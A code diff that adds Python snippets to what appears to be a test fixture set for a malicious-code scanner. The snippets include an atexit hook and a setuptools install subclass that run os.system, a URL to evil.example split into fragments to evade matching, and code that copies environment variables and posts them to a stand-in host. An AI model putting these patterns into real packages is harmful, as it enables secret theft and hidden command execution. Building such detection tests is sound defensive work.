@@ -41,6 +41,24 @@ SOURCES = {
         "    def quiet(self):\n        return 1\n\n"
         "    def f(self, d):\n        self.s.connect(('h', 1))\n        self.s.recv(9)\n"
     ),
+    "registered": (
+        "import atexit\nimport os\n{plain}\nclass A:\n    def __init__(self):\n        atexit.register(f)\n{plain}\n"
+        "def f():\n    os.system('id')\n{plain}\nA()\n"
+    ),
+    "command": (
+        "import os\nfrom setuptools.command.install import install\n{plain}\nclass A(install):\n"
+        "    def quiet(self):\n        return 1\n\n    def late(self):\n        f()\n{plain}\ndef f():\n"
+        "    os.system('id')\n{plain}"
+    ),
+    "joined": (
+        "PARTS = ['h', 't', 'tp', '://', 'evil', '.exam', 'ple/x', '?a=1']\n{plain}\ndef f():\n"
+        "    return ''.join(PARTS)\n{plain}"
+    ),
+    "stored": (
+        "import os\nimport requests\nclass A:\n    def quiet(self):\n        return 1\n\n"
+        "    def secret(self):\n        return os.environ.copy()\n\n    def fill(self):\n"
+        "        self.all = secret(self)\n\n    def send(self):\n        requests.post('https://x.example', self.all)\n"
+    ),
     "decorated": (
         "import atexit\n{plain}\n@atexit.register\n@other(\n    1,\n)\ndef f():\n    open('x', 'w').write('a')\n{plain}"
     ),
